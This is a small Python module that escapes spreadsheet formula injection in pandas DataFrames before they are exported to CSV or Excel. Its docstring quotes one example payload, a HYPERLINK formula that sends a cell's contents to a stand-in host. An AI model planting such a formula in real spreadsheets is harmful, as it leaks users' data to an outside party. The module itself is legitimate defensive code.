"""Keep text as text in CSV and Excel files: no cell a spreadsheet would run as a formula.

A trainee's notebook can put any string into a report (a supervisor flag's kind, an answer);
Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return as a formula (OWASP "CSV injection"), e.g.
``=HYPERLINK("https://evil.example/?"&A1, "open")``. Such a string gets a leading apostrophe,
the spreadsheet convention for "this is text"; numbers are left as numbers.
"""

from __future__ import annotations

from typing import Any

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def as_text(value: Any) -> Any:
    """`value` with a leading apostrophe if it is a string a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def text_only(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose string cells, column names and index labels are all safe."""
    safe = frame.copy()
    for column in safe.columns:
        if safe[column].dtype == object or pd.api.types.is_string_dtype(safe[column]):
            safe[column] = safe[column].map(as_text)
    safe.columns = [as_text(name) for name in safe.columns]
    safe.index = safe.index.map(as_text)
    return safe
